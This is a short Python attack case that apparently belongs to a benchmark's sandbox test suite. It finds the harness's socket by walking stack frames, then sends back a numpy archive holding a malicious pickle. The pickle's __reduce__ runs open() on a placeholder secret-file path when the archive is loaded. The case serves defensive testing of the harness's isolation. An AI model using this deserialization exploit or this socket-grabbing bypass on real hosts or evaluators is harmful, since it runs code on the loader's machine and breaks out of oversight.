"""Sends an array that runs code in whoever loads it."""

import io
import sys

import numpy as np

from benchmark.contract import RewardFunction, Tags
from benchmark.sandbox.inside.payload import Message, receive


def find_socket():
    import benchmark.sandbox.inside.runner

    frame = sys._getframe()
    while frame is not None:
        if "connection" in frame.f_locals:
            return frame.f_locals["connection"]
        frame = frame.f_back
    raise RuntimeError(f"no channel found from {benchmark.sandbox.inside.runner.__name__}")


class Payload:
    def __reduce__(self):
        return (open, ("@SECRET_FILE@.pickled", "w"))


class Attack:
    name = "sends-pickle"
    tags = Tags()

    def fit(self, log, harness):
        buffer = io.BytesIO()
        np.savez(buffer, reward=np.array([Payload()], dtype=object))
        channel = find_socket()
        channel.sendall(Message("fitted").encode())
        receive(channel, 1 << 24)  # the question for rewards
        channel.sendall(Message("rewards", {}, buffer.getvalue()).encode())
        return RewardFunction(lambda prompts, texts: [len(text) for text in texts])


METHOD = Attack()
